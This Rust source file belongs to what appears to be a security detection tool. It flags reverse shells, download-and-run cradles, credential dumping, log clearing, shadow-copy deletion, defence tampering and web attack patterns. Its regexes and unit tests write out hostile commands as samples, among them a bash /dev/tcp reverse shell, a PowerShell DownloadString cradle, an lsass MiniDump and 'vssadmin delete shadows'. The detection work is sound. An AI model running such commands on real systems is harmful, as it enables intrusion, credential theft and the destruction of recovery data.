//! Facts about programs: what was started, by what, from where, saying what.

use super::{contains_any, pattern, quoted};
use crate::decode;
use crate::relate::INTERPRETERS;
use crate::view::{View, base_name};
use casemate_event::{Class, field};

const DOCUMENT_PROGRAMS: [&str; 14] = [
    "winword.exe",
    "excel.exe",
    "powerpnt.exe",
    "outlook.exe",
    "onenote.exe",
    "mspub.exe",
    "msaccess.exe",
    "acrord32.exe",
    "acrobat.exe",
    "chrome.exe",
    "msedge.exe",
    "firefox.exe",
    "iexplore.exe",
    "eqnedt32.exe",
];
const SERVER_PROGRAMS: [&str; 13] = [
    "w3wp.exe",
    "httpd.exe",
    "httpd",
    "apache2",
    "nginx.exe",
    "nginx",
    "php-cgi.exe",
    "php-fpm",
    "tomcat.exe",
    "sqlservr.exe",
    "java.exe",
    "umworkerprocess.exe",
    "node.exe",
];
const REMOTE_MANAGEMENT: [&str; 4] = ["wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe", "mmc.exe"];
const SHELLS: [&str; 12] = [
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "wscript.exe",
    "cscript.exe",
    "mshta.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "sh",
    "bash",
    "dash",
    "python",
];
/// Folders any user may write to.
const WRITABLE_FOLDERS: [&str; 12] = [
    r"\users\public\",
    r"\windows\temp\",
    r"\appdata\local\temp\",
    r"\programdata\",
    r"\downloads\",
    r"\desktop\",
    r"\perflogs\",
    r"\$recycle.bin\",
    r"\windows\tasks\",
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
];
/// Folders only an administrator may write to.
const PROTECTED_FOLDERS: [&str; 4] =
    [r"c:\program files\", r"c:\program files (x86)\", r"c:\windows\ccm\", r"c:\windowsazure\"];

pub(super) fn encoded_command(view: View<'_>) -> Option<String> {
    let decoded =
        decode::encoded_command(view.command()).or_else(|| decode::encoded_command(view.job_command()))?;
    Some(format!("an encoded command was run on {}; decoded it begins {}", view.host(), quoted(&decoded)))
}

pub(super) fn download_cradle(view: View<'_>) -> Option<String> {
    let command = expanded(view);
    let downloads = contains_any(
        &command,
        &[
            "downloadstring",
            "downloadfile",
            "downloaddata",
            "net.webclient",
            "invoke-webrequest",
            "start-bitstransfer",
            "bitsadmin /transfer",
            "certutil -urlcache",
            "certutil.exe -urlcache",
            "-urlcache -",
            "curl ",
            "wget ",
            "iwr ",
        ],
    );
    let runs = contains_any(
        &command,
        &[
            "iex",
            "invoke-expression",
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "frombase64string",
            "start-process",
            "-urlcache",
            "&& sh ",
        ],
    ) || contains_any(&command, &["bitsadmin /transfer"]);
    (downloads && runs)
        .then(|| format!("a command on {} fetches and runs code: {}", view.host(), quoted(view.command())))
}

pub(super) fn reverse_shell(view: View<'_>) -> Option<String> {
    let command = expanded(view);
    let found = pattern(
        &command,
        r"/dev/(tcp|udp)/|\bnc(at)?(\.exe)?\s.*-e\s|\bbash\s+-i\b.*>&|mkfifo .*\|\s*nc\b|system\.net\.sockets\.tcpclient|socat\s.*exec:",
    );
    found.then(|| {
        format!("a command on {} opens a shell to a network peer: {}", view.host(), quoted(view.command()))
    })
}

pub(super) fn credential_dump_command(view: View<'_>) -> Option<String> {
    let command = expanded(view);
    let found = pattern(
        &command,
        r"comsvcs(\.dll)?[ ,#]+.*(minidump|#?\+?24)|procdump\S*\s.*lsass|sekurlsa|lsadump::|invoke-mimikatz|ntdsutil.*(ifm|ac i ntds)|reg(\.exe)?[' ]+(save|export)\s+['\\]*hk(lm|ey_local_machine)\\(sam|security|system)\b|(copy|esentutl).*\\ntds\.dit|createdump\S*\s.*lsass|out-minidump|(cat|cp|less|head|tail)\s.*/etc/shadow\b",
    );
    found.then(|| format!("a command on {} extracts credentials: {}", view.host(), quoted(view.command())))
}

pub(super) fn shell_from_document(view: View<'_>) -> Option<String> {
    from_parent(view, &DOCUMENT_PROGRAMS, "a document or browser program")
}

pub(super) fn shell_from_server(view: View<'_>) -> Option<String> {
    from_parent(view, &SERVER_PROGRAMS, "a server program")
}

pub(super) fn shell_from_remote_management(view: View<'_>) -> Option<String> {
    from_parent(view, &REMOTE_MANAGEMENT, "a remote management host")
}

fn from_parent(view: View<'_>, parents: &[&str], what: &str) -> Option<String> {
    let (process, parent) = (view.process_name(), view.parent_name());
    let found = view.is_launch() && parents.contains(&parent.as_str()) && SHELLS.contains(&process.as_str());
    found.then(|| format!("{parent}, {what}, started {process} on {}", view.host()))
}

pub(super) fn proxy_execution(view: View<'_>) -> Option<String> {
    if !view.is_launch() {
        return None;
    }
    let command = view.command().to_lowercase();
    let found = pattern(
        &command,
        r"mshta(\.exe)?['\s]+.*(https?:|javascript:|vbscript:)|regsvr32(\.exe)?['\s].*(/i:\s*https?:|scrobj)|rundll32(\.exe)?['\s].*(javascript:|\\temp\\|\\users\\public\\|\\programdata\\)|installutil(\.exe)?['\s].*(/u|/logfile=)|msbuild(\.exe)?['\s].*(\\temp\\|\\users\\)|msiexec(\.exe)?['\s].*https?:|cmstp(\.exe)?['\s].*/s|wmic(\.exe)?['\s].*/format:",
    );
    found.then(|| {
        format!(
            "{} on {} was used to run other code: {}",
            view.process_name(),
            view.host(),
            quoted(view.command())
        )
    })
}

pub(super) fn unusual_path(view: View<'_>) -> Option<String> {
    let path = view.is_launch().then(|| view.process_path()).flatten()?;
    let lower = path.to_lowercase();
    // Endpoint protection runs from there, in folders only it may write to.
    let vendor = contains_any(&lower, &[r"\programdata\microsoft\windows defender\"]);
    let signed = view.native("Signed").is_some_and(|signed| signed.eq_ignore_ascii_case("true"));
    (!vendor && !signed && contains_any(&lower, &WRITABLE_FOLDERS)).then(|| {
        format!(
            "{} was started on {} from a folder that users may write to, with no signature recorded",
            quoted(path),
            view.host()
        )
    })
}

pub(super) fn installed_parent(view: View<'_>) -> Option<String> {
    let parent = view.is_launch().then(|| view.parent_path()).flatten()?;
    let lower = parent.to_lowercase();
    let name = base_name(&lower);
    let protected = PROTECTED_FOLDERS.iter().any(|folder| lower.starts_with(folder))
        && !lower.contains(r"\..")
        && !INTERPRETERS.contains(&name.as_str())
        && !DOCUMENT_PROGRAMS.contains(&name.as_str())
        && !SERVER_PROGRAMS.contains(&name.as_str());
    protected.then(|| {
        format!("the parent {} lies in a folder that only administrators may write to", quoted(parent))
    })
}

pub(super) fn log_cleared(view: View<'_>) -> Option<String> {
    let channel = view.native("Channel").unwrap_or_default().to_lowercase();
    let event =
        (view.code() == "1102" && channel == "security") || (view.code() == "104" && channel == "system");
    let command = pattern(
        &expanded(view),
        r"wevtutil(\.exe)?['\s]+(cl|clear-log)\s|clear-eventlog|remove-eventlog|history -c|rm\s.*(/var/log/|\.bash_history)|truncate\s.*/var/log/",
    );
    (event || command).then(|| format!("logs were cleared on {}", view.host()))
}

pub(super) fn recovery_removed(view: View<'_>) -> Option<String> {
    let found = pattern(
        &expanded(view),
        r"vssadmin(\.exe)?['\s]+(delete|resize)\s+shadow|wmic(\.exe)?['\s].*shadowcopy.*delete|wbadmin(\.exe)?['\s]+delete|bcdedit(\.exe)?['\s].*(recoveryenabled\s+no|ignoreallfailures)|win32_shadowcopy.*(delete|remove-wmi)",
    );
    found.then(|| {
        format!("a command on {} removes the means of recovery: {}", view.host(), quoted(view.command()))
    })
}

pub(super) fn protection_tampered(view: View<'_>) -> Option<String> {
    let found = pattern(
        &expanded(view),
        r"(set|add)-mppreference.*(-disable|-exclusion)|netsh(\.exe)?['\s].*(allprofiles|currentprofile)\s+state\s+off|(sc|net)(1)?(\.exe)?['\s]+(stop|delete|config)\s+['\s]*(windefend|sense|sysmon|wscsvc|eventlog|mssecflt|auditd)|auditctl\s+-e\s*0|setenforce\s+0|systemctl\s+(stop|disable)\s+(auditd|rsyslog|falcon)|fltmc(\.exe)?['\s]+unload|auditpol(\.exe)?['\s].*(/clear|/success:disable)",
    );
    let event = view.is_sysmon() && view.code() == "255";
    (found || event).then(|| {
        format!("a command on {} weakens protection or auditing: {}", view.host(), quoted(view.command()))
    })
}

pub(super) fn web_attack(view: View<'_>) -> Option<String> {
    if view.0.class != Class::HttpActivity {
        return None;
    }
    let url = view.0.field(field::URL)?;
    let text = format!("{url} {}", view.0.field(field::USER_AGENT).unwrap_or_default()).to_lowercase();
    let found = pattern(
        &text,
        r"(\.\./|%2e%2e(/|%2f)){2}|union(\s|\+|%20)+(all(\s|\+|%20)+)?select|\$\{jndi:|<script|%3cscript|/etc/passwd|cmd=(whoami|id|cat)|;(\s|\+|%20)*(wget|curl)(\s|\+|%20)|sqlmap|nikto|\bor(\s|\+|%20)+1=1",
    );
    found.then(|| format!("the request {} carries an attack pattern", quoted(url)))
}

/// The command line in lower case, together with what it encodes.
fn expanded(view: View<'_>) -> String {
    let command = view.command();
    let mut text: String =
        command.chars().take(16 * 1024).collect::<String>().to_lowercase().replace('"', "'");
    // The caret and the backtick are the usual ways to break up a word.
    text.retain(|c| !matches!(c, '^' | '`'));
    if let Some(decoded) = decode::encoded_command(command) {
        text.push(' ');
        text.push_str(&decoded.to_lowercase());
    }
    text
}

/// Discovery command that was run, in lower case, or nothing.
pub(super) fn discovery_command(view: View<'_>) -> Option<String> {
    if !view.is_launch() {
        return None;
    }
    let name = view.process_name();
    let command = view.command().to_lowercase();
    let stem = name.strip_suffix(".exe").unwrap_or(&name);
    let plain = [
        "whoami",
        "systeminfo",
        "ipconfig",
        "tasklist",
        "netstat",
        "nltest",
        "qwinsta",
        "quser",
        "dsquery",
        "hostname",
        "adfind",
        "ifconfig",
        "uname",
        "id",
        "arp",
        "route",
        "klist",
        "lastlog",
        "getent",
    ];
    let with_words = [
        ("net", " user"),
        ("net", " group"),
        ("net", " localgroup"),
        ("net", " view"),
        ("net1", " user"),
        ("net1", " group"),
        ("net1", " localgroup"),
        ("reg", " query"),
        ("wmic", " get"),
        ("cat", "/etc/passwd"),
    ];
    let found = plain.contains(&stem)
        || with_words.iter().any(|(program, words)| stem == *program && command.contains(words));
    found.then(|| {
        format!("{stem} {}", command.split_whitespace().skip(1).take(2).collect::<Vec<_>>().join(" "))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::event;

    fn check(fact: fn(View<'_>) -> Option<String>, command: &str, expected: bool) {
        let event = event(
            Class::ProcessActivity,
            &[
                (field::ACTIVITY, "Launch"),
                (field::PROCESS_CMD_LINE, command),
                (field::DEVICE_HOSTNAME, "ws1"),
            ],
        );
        assert_eq!(fact(View(&event)).is_some(), expected, "{command}");
    }

    #[test]
    fn commands_are_recognised() {
        check(
            credential_dump_command,
            r"rundll32.exe C:\windows\System32\comsvcs.dll MiniDump 756 C:\x.dmp full",
            true,
        );
        check(credential_dump_command, r"reg save HKLM\SAM sam.hive", true);
        check(credential_dump_command, r"reg query HKLM\Software", false);
        check(credential_dump_command, "procdump -ma lsass.exe out", true);
        check(recovery_removed, "vssadmin.exe delete shadows /all /quiet", true);
        check(recovery_removed, "vssadmin list shadows", false);
        check(log_cleared, "wevtutil cl Security", true);
        check(log_cleared, r"wevtutil epl Security D:\logarchive\sec.evtx", false);
        check(
            download_cradle,
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
            true,
        );
        check(download_cradle, "curl -O https://mirror/pkg.rpm", false);
        check(reverse_shell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true);
        check(reverse_shell, "bash -i", false);
        check(proxy_execution, "regsvr32.exe /s /n /u /i:http://10.10.10.5/a.sct scrobj.dll", true);
        check(proxy_execution, r"regsvr32 /s C:\Windows\System32\msxml3.dll", false);
        check(protection_tampered, "Set-MpPreference -DisableRealtimeMonitoring $true", true);
        check(protection_tampered, "netsh advfirewall firewall add rule name=SQL dir=in action=allow", false);
    }

    #[test]
    fn carets_do_not_hide_a_command() {
        check(recovery_removed, "cmd /c v^ss^admin del^ete sha^dows /all", true);
    }
}
